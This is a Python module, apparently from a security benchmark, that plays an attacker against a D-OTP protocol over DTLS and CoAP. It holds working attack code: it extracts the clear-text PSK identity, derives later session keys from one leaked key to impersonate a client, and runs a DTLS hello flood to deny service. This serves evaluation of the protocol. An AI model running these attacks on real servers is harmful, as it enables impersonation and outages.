"""Eve in the place of a server of D-OTP's DTLS layer: with one key that became known, and with hellos without end.

A key becomes known easily: libcoap's client takes it on its command line, which every user of a computer can read.
"""

from __future__ import annotations

import asyncio
import os
import socket
from typing import Final

import aiocoap

from bt_selfsecure.bench.coap.live_dotp import in_words, told
from bt_selfsecure.bench.coap.live_relay import Place, Say, udp
from bt_selfsecure.coap.client import connected
from bt_selfsecure.coap.schemes import DtlsPsk
from bt_selfsecure.dtls.endpoint import Dtls
from bt_selfsecure.dtls.values import Credentials
from bt_selfsecure.errors import BtSelfSecureError, UsageError
from bt_selfsecure.eve.dotp.attacks import Public, Sent
from bt_selfsecure.eve.dotp.serial_number import MOST_AHEAD, psk_of_session, read, sn_of_key
from bt_selfsecure.protocols.dotp.keys import HARDENED_BYTES, SERIAL_BYTES, Role, direction_sn

EACH_S: Final = 1.0
HANDSHAKE, CLIENT_KEY_EXCHANGE = 22, 16
RECORD_BYTES, MESSAGE_BYTES = 13, 12
"""Of the heads of a DTLS record, and of a handshake message in it."""
HELLOS_A_TURN, TURN_S = 20, 0.02
SOCKETS: Final = 64


def is_dtls(data: bytes) -> bool:
    """Return whether this begins with a DTLS record, and so not with a serial of the object layer's."""
    return len(data) > RECORD_BYTES and data[0] in (20, 21, 22, 23) and data[1] == 0xFE


def identity_in(data: bytes) -> bytes:
    """Return the PSK identity that a client says in clear (RFC 4279); empty where it is not in this datagram."""
    while is_dtls(data):
        end = RECORD_BYTES + int.from_bytes(data[11:13])
        message = data[RECORD_BYTES:end]
        if data[0] == HANDSHAKE and not any(data[3:5]) and message[:1] == bytes([CLIENT_KEY_EXCHANGE]):
            body = message[MESSAGE_BYTES:]
            return body[2 : 2 + int.from_bytes(body[:2])]
        data = data[end:]
    return b""


class KnownKey:
    """Has one key of the client's, and takes it for one of `paper`. Layer `object`: reads all that passes, and succeeds
    if an answer is of a request that she read. Layer `dtls`: makes the key of a session after those that pass, and
    succeeds if the server serves her."""

    def __init__(self, say: Say, key: str) -> None:
        """Raises `UsageError` for what is no key."""
        self._say: Final = say
        self._public: Final = Public()
        hardened = len(key) == 2 * HARDENED_BYTES
        try:
            octets = bytes.fromhex(key) if hardened else int(key).to_bytes(self._public.block)
        except (ValueError, OverflowError):
            raise UsageError(
                f"--key {key!r} is no key: give the decimal digits of one of 64 bits, as libcoap's -k has them, or 64 "
                "hexadecimal ones"
            ) from None
        self._sn: Final = sn_of_key(octets)
        self._key: Final = str(int.from_bytes(octets[: self._public.block])).encode()
        self._identity = b""
        self._asked: Final[set[bytes]] = set()
        """The message ids of requests that she read."""
        self.succeeded = False

    def hear(self, sender: Role, data: bytes) -> list[Sent]:
        if is_dtls(data):
            self._identity = identity_in(data) or self._identity
        else:
            self._read(sender, data)
        return [(sender.peer, data)]

    def _read(self, sender: Role, data: bytes) -> None:
        if int.from_bytes(data[:SERIAL_BYTES]) > MOST_AHEAD:
            return
        (text,) = read([data], direction_sn(self._sn, sender), self._public.policy)
        if text[:1] and text[0] >> 6 == 1 and sender is Role.CLIENT:
            self._asked.add(text[2:4])
        if sender is Role.SERVER and text[2:4] in self._asked:
            self.succeeded = True
        self._say(f"{sender.value}: {told(text)}")

    async def play(self, place: Place) -> None:
        """Call the server until it serves her, once a client's session has passed."""
        self._say(f"the upper half of that key is {self._sn}")
        ahead = 0
        while not self.succeeded:
            await asyncio.sleep(EACH_S)
            pair, _, session = self._identity.rpartition(b"/")
            if session.isdigit():
                ahead += 1
                await self._call(place, pair, int(session) + ahead)

    async def _call(self, place: Place, pair: bytes, session: int) -> None:
        identity, key = pair + b"/%d" % session, psk_of_session(self._key, session, self._public.policy)
        self._say(f"she calls as {identity.decode(errors='replace')}, with the key {key.decode()}")
        host, port = place
        uri = f"coaps://{f'[{host}]' if ':' in host else host}:{port}/time"
        try:
            async with connected(DtlsPsk({identity: key})) as client:
                answer = await client.request("get", uri, timeout=2 * EACH_S)
        except BtSelfSecureError as failure:
            self._say(str(failure))
            return
        self.succeeded = answer.code is aiocoap.CONTENT
        self._say(f"the server serves her: {in_words(answer)}")


class HelloFlood:
    """Sends the server hellos without end, as from many places that never answer it. Succeeds if none of those who ask
    meanwhile gets a session."""

    def __init__(self, say: Say) -> None:
        self._say: Final = say
        self._began = False
        self._tried = self._served = 0

    @property
    def succeeded(self) -> bool:
        return self._tried > 0 and self._served == 0

    def hear(self, sender: Role, data: bytes) -> list[Sent]:
        if self._began and sender is Role.CLIENT:
            self._tried += bool(identity_in(data))
        if self._began and sender is Role.SERVER and data[:1] == b"\x17" and self._tried:
            self._served += 1
            if self._served == 1:
                self._say("a client is served meanwhile")
        return [(sender.peer, data)]

    async def play(self, place: Place) -> None:
        """Send, and count what comes back."""
        hello = Dtls.client(lambda _hint: Credentials(b"nobody", os.urandom(32)), 0.0).frames_to_send(0.0)[0]
        sockets = [udp(place) for _ in range(SOCKETS)]
        sent = came = 0
        try:
            while True:
                for _ in range(HELLOS_A_TURN):
                    came += _taken(sockets[sent % SOCKETS])
                    sockets[sent % SOCKETS].sendto(hello, place)
                    sent += 1
                self._began = True
                await asyncio.sleep(TURN_S)
        finally:
            for one in sockets:
                one.close()
            self._say(f"{sent} hellos, {sent * len(hello)} bytes; {came} bytes came back")


def _taken(one: socket.socket) -> int:
    """Return how many bytes wait in a socket, and take them."""
    count = 0
    try:
        while True:
            count += len(one.recv(2048))
    except OSError:
        return count
